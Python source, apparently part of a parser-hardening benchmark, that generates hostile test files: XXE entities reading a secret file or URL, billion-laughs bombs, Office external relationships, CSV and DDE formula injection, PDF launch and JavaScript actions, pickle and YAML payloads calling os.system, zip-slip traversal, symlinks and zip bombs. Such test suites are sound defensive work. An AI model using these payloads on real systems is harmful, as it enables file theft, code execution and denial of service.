"""Builds files that attack a parser: they read a file, connect, start a program, or use up memory and time."""

from __future__ import annotations

import io
import json
import pickle
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from benchmarks.hostile_files import valid
from benchmarks.hostile_files.valid import archive

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Targets:
    """What the files aim at: a secret file, a file to create, and the URL of a server."""

    secret: Path
    created: Path
    url: str


def files(targets: Targets) -> dict[str, bytes]:
    """Return the crafted files by name."""
    return {
        **_entities(targets),
        **_office(targets),
        **_pdf(targets),
        **_text(targets),
        **_archives(targets),
        **_exhausting(),
        **_encodings(),
    }


def _entities(targets: Targets) -> dict[str, bytes]:
    """Return files whose XML asks for a file or a URL, or grows without limit."""
    system = f"file://{targets.secret}"
    doctypes = {
        "file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{system}">]>',
        "url": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{targets.url}">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{targets.url}"> %p; <!ENTITY e "x">]>',
        "public": f'<!DOCTYPE x PUBLIC "-//X//X//EN" "{targets.url}" [<!ENTITY e "x">]>',
        "laughs": "<!DOCTYPE x ["
        + '<!ENTITY a "ha">'
        + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
        + '<!ENTITY e "&j;">]>',
        "quadratic": f'<!DOCTYPE x [<!ENTITY e "{"x" * 50_000}">]>',
    }
    made: dict[str, bytes] = {}
    for name, doctype in doctypes.items():
        body = "&e;" * (500 if name == "quadratic" else 1)
        xml = f'<?xml version="1.0"?>{doctype}<x>{body}</x>'.encode()
        word = (
            f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
            f'2006/main"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>'
        ).encode()
        made |= {
            f"{name}-entity.docx": changed(valid.docx(), "word/document.xml", word),
            f"{name}-entity.xlsx": changed(valid.workbook(), "xl/workbook.xml", xml),
            f"{name}-entity.pptx": changed(valid.slides(), "ppt/presentation.xml", xml),
            f"{name}-entity-types.docx": changed(valid.docx(), "[Content_Types].xml", xml),
            f"{name}-entity.html": xml,
            f"{name}-entity.svg": xml,
        }
    return made


def _office(targets: Targets) -> dict[str, bytes]:
    """Return Office files with external relationships and formulas that fetch."""
    relationship = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    made: dict[str, bytes] = {}
    for kind in ("attachedTemplate", "image", "oleObject", "subDocument", "frame", "hyperlink"):
        for at, target in enumerate((targets.url, f"file://{targets.secret}")):
            body = relationship.format(kind=f"{RELATIONSHIPS}/{kind}", target=target).encode()
            made[f"{kind}-{at}.docx"] = changed(valid.docx(), "word/_rels/document.xml.rels", body)
            made[f"{kind}-{at}.xlsx"] = changed(valid.workbook(), "xl/_rels/workbook.xml.rels", body)
            made[f"{kind}-{at}.pptx"] = changed(valid.slides(), "ppt/_rels/presentation.xml.rels", body)
    link = f"'{targets.url}'!A1"
    cells = (f'=WEBSERVICE("{targets.url}")', f"=cmd|'/c touch {targets.created}'!A1", f"={link}")
    made["fetching.csv"] = "\n".join(["a,b", *(f'"{cell}",1' for cell in cells)]).encode()
    return made


def _pdf(targets: Targets) -> dict[str, bytes]:
    """Return PDF files with actions, with loops, and with streams that unpack to gigabytes."""

    def action(kind: str, **more: str) -> bytes:
        entries = {NameObject("/S"): NameObject(kind)}
        made = DictionaryObject(
            entries | {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
        )
        return valid.pdf(catalog={"/OpenAction": made})

    packer = zlib.compressobj(9)
    packed = b"".join([*(packer.compress(b" " * 2**20) for _ in range(1024)), packer.flush()])
    head = b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    head += b"2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n"
    page = b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>\nendobj\n"
    stream = b"4 0 obj\n<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream\nendobj\n"
    twice = (stream % (len(packed), packed)).replace(b"/FlateDecode", b"[/FlateDecode/FlateDecode]")
    end = b"trailer\n<</Root 1 0 R>>\n%%EOF\n"
    kids = b"2 0 obj\n<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>\nendobj\n"
    return {
        "launch.pdf": action("/Launch", F=f"/usr/bin/touch {targets.created}"),
        "uri.pdf": action("/URI", URI=targets.url),
        "script.pdf": action("/JavaScript", JS=f"this.submitForm('{targets.url}')"),
        "remote.pdf": action("/GoToR", F=str(targets.secret)),
        "unpacks.pdf": head + page + stream % (len(packed), packed) + end,
        "twice.pdf": head + page + twice + end,
        "cyclic.pdf": b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n" + kids + end,
        "itself.pdf": head + b"3 0 obj\n3 0 R\nendobj\n" + end,
        "length.pdf": head + page + b"4 0 obj\n<</Length 99999999999>>stream\nx\nendstream\nendobj\n" + end,
        "nested.pdf": b"%PDF-1.4\n1 0 obj\n" + b"[" * 100_000 + b"]" * 100_000 + b"\nendobj\n" + end,
        "operators.pdf": valid.pdf(b"q " * 1_000_000),
        "strings.pdf": valid.pdf(b"BT " + b"(" * 500_000),
    }


def _text(targets: Targets) -> dict[str, bytes]:
    """Return text formats that ask for a file or a URL."""
    url, secret = targets.url, targets.secret
    external = f'Content-Type: message/external-body; access-type=URL; URL="{url}"'
    return {
        "loads.html": (
            f'<html><head><base href="{url}"><link rel="stylesheet" href="{url}"><meta http-equiv="refresh" '
            f'content="0;url={url}"></head><body><img src="{url}"><iframe src="file://{secret}"></iframe><script '
            f'src="{url}"></script><object data="{url}"></object><p>Words.</p></body></html>'
        ).encode(),
        "include.html": f'<!--#include file="{secret}"--><!--#exec cmd="touch {targets.created}"--><p>Words.'.encode(),
        "include.md": f"# A\n\n![]({url})\n\n<iframe src='{url}'></iframe>\n\n{{{{include {secret}}}}}\n".encode(),
        "external.eml": f"Subject: a\nMIME-Version: 1.0\n{external}\n\nContent-Type: text/plain\n\nWords.\n".encode(),
        "local.eml": (
            "Subject: a\nMIME-Version: 1.0\nContent-Type: message/external-body; access-type=local-file; "
            f'name="{secret}"\n\nWords.\n'
        ).encode(),
        "name.eml": (
            f'Subject: a\nMIME-Version: 1.0\nContent-Type: text/plain; name="../../..{targets.created}"\n'
            f'Content-Disposition: attachment; filename="{targets.created}"\n\nWords.\n'
        ).encode(),
        "object.json": json.dumps({"__class__": "os.system", "py/reduce": [f"touch {targets.created}"]}).encode(),
        "object.txt": pickle.dumps(_Touches(targets.created)),
        "object.yaml": f'!!python/object/apply:os.system ["touch {targets.created}"]\n'.encode(),
        "coding.py": b"# -*- coding: rot13 -*-\nvzcbeg bf\n",
    }


class _Touches:
    """An object that creates a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (str(self._path), "w")


def _archives(targets: Targets) -> dict[str, bytes]:
    """Return archives with member names outside, links, bombs and broken directories."""
    created = targets.created
    made: dict[str, bytes] = {}
    names = (f"../../../../../../../..{created}", str(created), f"C:{created}", f"a/../../..{created}")
    for at, name in enumerate(names):
        members = {name: b"[]", "users.json": b"[]", "channels.json": b'[{"id": "C1", "name": "general"}]'}
        made[f"outside-{at}.zip"] = archive(members)
        made[f"outside-{at}.docx"] = archive({name: b"<x/>", "word/document.xml": b"<x/>"})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as linked:
        info = zipfile.ZipInfo("users.json")
        info.external_attr = 0o120777 << 16
        linked.writestr(info, str(targets.secret))
        linked.writestr("channels.json", b"[]")
    made["link.zip"] = buffer.getvalue()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        info_tar = tarfile.TarInfo(names[0])
        tar.addfile(info_tar, io.BytesIO())
    made["outside.tar.gz"] = buffer.getvalue()
    bomb = bytes(200 * 2**20)
    made["bomb.docx"] = archive({"word/document.xml": bomb})
    made["bomb.xlsx"] = archive({"xl/workbook.xml": b"<x/>", "xl/worksheets/sheet1.xml": bomb})
    made["bomb.zip"] = archive({"users.json": bomb, "channels.json": b"[]"})
    inner = archive({"a": bomb})
    for _ in range(5):
        inner = archive({f"{at}.zip": inner for at in range(4)})
    made["nested.zip"] = inner
    made["many.zip"] = archive({f"general/{at}.json": b"[]" for at in range(50_000)} | {"users.json": b"[]"})
    liar = bytearray(archive({"word/document.xml": bytes(10**6)}))
    at = liar.index(b"PK\x01\x02")
    liar[at + 24 : at + 28] = (10).to_bytes(4, "little")
    made["lies-about-its-size.docx"] = bytes(liar)
    return made


def _exhausting() -> dict[str, bytes]:
    """Return files that use up memory, time or the stack of a careless parser."""
    return {
        "deep.json": b"[" * 200_000 + b"]" * 200_000,
        "deep-objects.json": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "digits.json": b'{"a": ' + b"9" * 1_000_000 + b"}",
        "keys.json": b"{" + b",".join(b'"k%d": %d' % (at, at) for at in range(200_000)) + b"}",
        "deep.html": b"<div>" * 300_000 + b"words",
        "attributes.html": b"<p " + b" ".join(b"a%d=1" % at for at in range(200_000)) + b">words",
        "unclosed.html": b"<" * 500_000 + b"p>words",
        "comments.html": b"<!--" * 300_000 + b"words",
        "tables.html": b"<table><tr><td>" * 50_000 + b"words",
        "links.md": b"[" * 200_000 + b"a" + b"](b)" * 200_000,
        "emphasis.md": b"*_" * 200_000 + b"words",
        "backticks.md": b"".join(b"`" * at + b" " for at in range(1, 1500)),
        "quotes.md": b">" * 100_000 + b" words",
        "lists.md": b"".join(b" " * at + b"- a\n" for at in range(3000)),
        "headings.md": b"".join(b"#" * (1 + at % 6) + b" h%d\n\nwords\n\n" % at for at in range(60_000)),
        "long-heading.md": b"# " + b"h" * 3_000_000 + b"\n\n" + b"words\n\n" * 3000,
        "references.md": b"".join(b"[%d]: /u\n" % at for at in range(100_000)) + b"[0]" * 1000,
        "columns.csv": b",".join(b"c%d" % at for at in range(100_000)) + b"\n" + b"1," * 100_000,
        "rows.csv": b"a,b\n" + b"1,2\n" * 250_000,
        "quote.csv": b'a,b\n"' + b"x" * 5_000_000,
        "paragraphs.txt": b"a\n\n" * 1_500_000,
        "line.txt": b"word " * 2_000_000,
        "word.txt": b"x" * 8_000_000,
        "dots.txt": b". " * 4_000_000,
        "spaces.txt": b"a" + b" " * 8_000_000 + b"b",
        "newlines.txt": b"a" + b"\n \t" * 2_000_000 + b"b",
        "parts.eml": b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n" + b"--x\n\na\n" * 100_000,
        "nested.eml": b"".join(
            b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (at, at) for at in range(5000)
        ),
        "headers.eml": b"X-A: b\n" * 500_000 + b"\nwords",
        "words.eml": b"Subject: " + b"=?utf-8?q?a?= " * 100_000 + b"\n\nwords",
        "mails.mbox": b"From a@b Mon Nov  2 10:00:00 2026\nSubject: a\n\nwords\n\n" * 60_000,
    }


def _encodings() -> dict[str, bytes]:
    """Return text in unusual encodings, and control characters."""
    words = "Words <b>of</b> a page. Grüße 漢字 \N{GRINNING FACE}\n"
    made = {f"{name}.txt": (words * 50).encode(name) for name in ("utf-16", "utf-32", "utf-7", "utf-8-sig")}
    made |= {
        "surrogates.txt": b"words \xed\xa0\x80 more " * 100,
        "surrogates.json": b'{"a": "\\ud800 words \\udfff", "b\\u0000": "\\u0000"}',
        "overlong.txt": b"words \xc0\xaf\xe0\x80\xaf " * 100,
        "bytes.txt": bytes(range(256)) * 100,
        "controls.md": b"# T\x1b[31m\x07\n\nwords\x00\x01\x02 \xe2\x80\xae reversed\n",
        "marks.txt": ("a" + "\u0301" * 100_000).encode(),
        "zalgo.md": ("# " + "".join(chr(0x300 + at % 112) for at in range(50_000)) + "\n\nwords").encode(),
    }
    return made


def changed(data: bytes, name: str, content: bytes) -> bytes:
    """Return the archive with another content of one member."""
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        members = {member: old.read(member) for member in old.namelist()}
    return archive({**members, name: content})
